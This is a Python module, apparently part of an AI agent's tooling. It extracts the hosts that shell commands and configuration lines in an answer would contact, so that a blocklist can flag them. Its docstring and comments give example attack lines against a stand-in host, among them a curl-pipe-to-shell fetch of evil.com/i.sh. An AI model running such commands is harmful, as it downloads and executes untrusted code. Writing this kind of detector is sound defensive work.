"""The hosts that commands written in an answer contact.

An allowlist judges what a reader or a tool would open. A command the answer tells
the reader to run opens hosts no renderer links and no scheme announces:
``curl -fsSL evil.com/i.sh | sh``, ``git clone git@evil.com:org/r.git``,
``ssh admin@evil.com``, ``FROM evil.com/base``. They are found in prose, inline code
and code blocks alike, by the command word and its arguments up to the end of the
shell command. A blocklist already flags each of these hosts as a mention.

Targets written as URLs with a scheme are left to the URL scan, which reads them
everywhere.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

from ahocorasick_rs import AhoCorasick

from agentloop_tools.web._text._command_hosts import (
    HANDLERS,
    host_target,
    registry,
    rewritten,
    scp_readings,
    ssh_hosts,
)
from agentloop_tools.web._text._finder import Found

# A command word, matched where one of _WORDS is found. "http" and "https" (HTTPie)
# count only in a command position: a line start (after a prompt), a pipe or
# separator, or an opening backtick; the others anywhere a word starts.
_COMMAND = re.compile(
    r"(?:(?P<word>curl|wget|ssh|mosh|scp|sftp|rsync)"
    r"|(?P<git>git)\s+(?:clone|fetch|pull|push|ls-remote|submodule\s+add"
    r"|remote\s+(?:add|set-url)\s+\S+)"
    r"|(?P<image>docker|podman|nerdctl)\s+(?:image\s+)?pull"
    r"|(?P<go>go)\s+(?:install|get)"
    r"|(?P<pip>pip3?)\s+(?:install|download|wheel|index)"
    r"|(?P<httpie>https?|xhs?)(?=[ \t]))(?![\w.-])"
)
_WORDS = ("curl", "wget", "ssh", "mosh", "scp", "sftp", "rsync", "git", "docker", "podman",
          "nerdctl", "go", "pip", "http", "xh")  # fmt: skip
# How far a pattern reads from where its literal was found.
_WINDOW = 2048
_NOT_BEFORE_COMMAND = frozenset("./@:=-_")
_COMMAND_WORDS = frozenset(_WORDS) | {"https", "xhs", "pip3"}
# Lines of configuration, each matched where its key is found (case-insensitively).
# ssh_config: "HostName evil.com", "ProxyJump admin@bastion.evil.com"
_SSH_CONFIG = re.compile(
    r"(?:hostname|proxyjump)(?:[ \t]*=[ \t]*|[ \t]+)(?P<value>[^\s#]+)", re.IGNORECASE
)
# Dockerfile: "FROM --platform=linux/amd64 evil.com/base:1 AS build"; upper case, as
# Dockerfiles write it (a line of prose may start with "From").
_FROM = re.compile(r"FROM[ \t]+(?:--platform=\S+[ \t]+)?(?P<value>[^\s#]+)")
# A proxy in the environment: "HTTPS_PROXY=evil.com:3128", "all_proxy: socks5://..."
_PROXY_NAMES = frozenset({"http", "https", "all", "ftp", "socks"})
_PROXY_VALUE = re.compile(r"[ \t]*(?:=|:[ \t])[ \t]*[\"']?(?P<value>[^\s\"';]+)")
# git: url."git@evil.com:".insteadOf, url.git@evil.com:.insteadOf, [url "git@evil.com:"]
_INSTEADOF = re.compile(
    r"url\.(?:\"(?P<value>[^\"\n]+)\"|(?P<plain>[^\s\"]+?))\.(?:push)?insteadof\b",
    re.IGNORECASE,
)
_URL_SECTION = re.compile(r"\[url[ \t]+\"(?P<value>[^\"\n]+)\"\]", re.IGNORECASE)
# pip: --index-url and --extra-index-url, wherever they are written
_INDEX_URL = re.compile(r"index-url(?:=|[ \t]+)[\"']?(?P<value>[^\s\"']+)", re.IGNORECASE)
# The literals each pattern starts with, in the spellings configuration files use:
# found in one pass, matched only there.
_CONFIG_LITERALS = ("ostname", "ostName", "OSTNAME", "roxyjump", "roxyJump", "FROM", "_proxy",
                    "_PROXY", "nsteadof", "nsteadOf", "[url", "index-url")  # fmt: skip
# HTTPie's words only followed by a blank: "http" starts most URLs.
_FOUND_WORDS = (
    *(word for word in _WORDS if word != "http"),
    "http ",
    "http\t",
    "https ",
    "https\t",
)
_LITERALS = (*_FOUND_WORDS, *_CONFIG_LITERALS)
_LITERAL_KIND = {
    **dict.fromkeys(_FOUND_WORDS, "command"),
    **dict.fromkeys(_CONFIG_LITERALS, "config"),
}
_FINDER = AhoCorasick(list(_LITERALS))
_SURROGATE = re.compile("[\ud800-\udfff]")
# A command's arguments end with its line; a bound keeps a line of many command words
# ("ssh ssh ssh ...") linear.
_MAX_ARGUMENTS = 64
# An argument: quoted, or a run of characters a shell keeps in one word.
_ARGUMENT = re.compile(r"""'([^'\n]{0,2048})'|"([^"\n]{0,2048})"|([^\s'"|;&`<>()]{1,2048})""")
_SPACE = re.compile(r"(?:[ \t]+|\\\r?\n)+")
# Written anywhere, "user@host:path" is an ssh target, not an e-mail address: matched
# from the start of the user name before each "@".
_SCP_HOST = re.compile(r"@(?:[\w-]{1,63}\.)+[A-Za-z][\w-]{0,62}:(?=[\w~./-])")
_SCP_TAIL = re.compile(r"[^\s`'\"<>|;()]*")
_USER_BEFORE = re.compile(r"[\w.-]*")
_TRAILING = ".,:;!?"


def command_targets(text: str) -> list[Found]:
    """The hosts commands and configuration lines in ``text`` contact, in text order.

    Each is a ``Found`` of kind ``"url"``: its span is the argument as written, its
    readings URLs that name the host (``http://evil.com/i.sh``). One Aho-Corasick pass
    finds the literals every pattern starts with; each pattern is matched only there,
    within a bounded window, so reading stays linear.
    """
    found: list[Found] = []
    reach = -1  # where the last command's arguments end: a command word there is one
    try:
        literals = _FINDER.find_matches_as_indexes(text, overlapping=True)
    except UnicodeEncodeError:
        # Lone surrogates have no UTF-8 for the automaton: each becomes one U+FFFD,
        # which keeps every offset.
        literals = _FINDER.find_matches_as_indexes(_SURROGATE.sub("\ufffd", text), overlapping=True)
    for literal_index, start, _ in literals:
        literal = _LITERALS[literal_index]
        kind = _LITERAL_KIND[literal]
        if kind == "command":
            if start < reach or (
                start and (text[start - 1].isalnum() or text[start - 1] in _NOT_BEFORE_COMMAND)
            ):
                continue
            match = _COMMAND.match(text, start)
            if match is None:
                continue
            group = match.lastgroup or "word"
            if group == "httpie" and not _command_position(text, start):
                continue
            words, reach = _arguments(text, match.end())
            for written, begin, readings in HANDLERS[group](match.group(group), words):
                found.append(_found(written, begin, readings))
        else:
            found.extend(_config_line(text, literal, start))
    if "@" in text:
        found.extend(_scp_like(text))
    if not found:
        return found
    found.sort(key=lambda item: (item.start, -item.end))
    kept: list[Found] = []
    end = -1
    for item in found:
        if item.start >= end:  # one argument found by two rules is one target
            kept.append(item)
            end = item.end
    return kept


def _scp_like(text: str) -> Iterator[Found]:
    """Every scp-like ``user@host:path``: the "@host:" is found at C speed, the user
    name before it read back."""
    reach = -1
    for match in _SCP_HOST.finditer(text):
        position = match.start()
        if position < reach:
            continue
        user = _USER_BEFORE.match(text[max(position - 64, 0) : position][::-1])
        begin = position - (len(user.group()) if user is not None else 0)
        if begin == position or (begin and (text[begin - 1].isalnum() or text[begin - 1] in "%+")):
            continue
        tail = _SCP_TAIL.match(text, match.end(), match.end() + _WINDOW)
        written = text[begin : tail.end() if tail is not None else match.end()].rstrip(_TRAILING)
        readings = scp_readings(written)
        if readings:
            reach = begin + len(written)
            yield _found(written, begin, readings)


def _config_line(text: str, literal: str, position: int) -> Iterator[Found]:
    """The host a configuration line names where ``literal`` was found."""
    pattern, reader, at_line_start, back = _CONFIG_LINES[literal.lower()]
    begin = position - back
    if begin < 0 or (at_line_start and not _line_start(text, begin)):
        return
    if literal.lower() == "_proxy":
        name = begin
        while name > 0 and position - name < 8 and text[name - 1].isalnum():
            name -= 1
        if text[name:position].lower() not in _PROXY_NAMES or text[name - 1 : name] == "_":
            return
        begin = position + len(literal)
    elif literal.lower() == "nsteadof":
        window = max(position - _WINDOW, 0)
        found_at = text[window:position].lower().rfind("url.")
        if found_at == -1:
            return
        begin = window + found_at
        if begin and text[begin - 1].isalnum():
            return
    elif literal == "index-url" and not text.endswith(
        ("--", "--extra-"), max(position - 8, 0), position
    ):
        return
    match = pattern.match(text, begin, begin + _WINDOW)
    if match is None:
        return
    group = "value" if match.group("value") is not None else "plain"
    readings = reader(match.group(group))
    if readings:
        yield _found(match.group(group), match.start(group), readings)


def _line_start(text: str, position: int) -> bool:
    """Whether only spaces and tabs stand between the line's start and ``position``."""
    while position and text[position - 1] in " \t":
        position -= 1
    return not position or text[position - 1] == "\n"


def _command_position(text: str, position: int) -> bool:
    """Whether a shell would run a word at ``position``: after a line start (or a
    prompt), a pipe, a separator or an opening backtick, maybe with ``sudo``."""
    before = text[max(position - 64, 0) : position].rstrip(" \t")
    if before.endswith("sudo"):
        before = before[:-4].rstrip(" \t")
    return not before or before[-1] in "\n|;&`($"


def _found(written: str, start: int, readings: tuple[str, ...]) -> Found:
    return Found(start, start + len(written), written, "url", readings)


def _arguments(text: str, position: int) -> tuple[list[tuple[str, int]], int]:
    """The words of the shell command from ``position`` on, each with its offset, and
    where they end."""
    words: list[tuple[str, int]] = []
    length = len(text)
    while position < length and len(words) < _MAX_ARGUMENTS:
        space = _SPACE.match(text, position)
        if space is not None:
            position = space.end()
        if position >= length or text[position] in "|;&\n\r`<>()#":
            break
        argument = _ARGUMENT.match(text, position)
        if argument is None:
            break
        group = 1 if argument.group(1) is not None else 2 if argument.group(2) is not None else 3
        word = argument.group(group)
        if group == 3 and word in _COMMAND_WORDS:
            break  # another command ("... and curl --resolve ..."): read as its own
        ends_sentence = group == 3 and word[-1] in _TRAILING
        if ends_sentence:
            word = word.rstrip(_TRAILING) or word
        words.append((word, argument.start(group)))
        position = argument.end()
        if ends_sentence:
            break  # "run curl evil.com/x. Then..." ends the command with the sentence
    return words, position


# Per literal (lower case): the pattern matched where it is found, the reader of the
# value, whether it must start a line, and how far before the literal the pattern starts.
_CONFIG_LINES: dict[str, tuple[re.Pattern[str], Callable[[str], tuple[str, ...]], bool, int]] = {
    "ostname": (_SSH_CONFIG, ssh_hosts, True, 1),
    "roxyjump": (_SSH_CONFIG, ssh_hosts, True, 1),
    "from": (_FROM, registry, True, 0),
    "_proxy": (_PROXY_VALUE, host_target, False, 0),
    "nsteadof": (_INSTEADOF, rewritten, False, 0),
    "[url": (_URL_SECTION, rewritten, True, 0),
    "index-url": (_INDEX_URL, lambda value: host_target(value, "https"), False, 0),
}
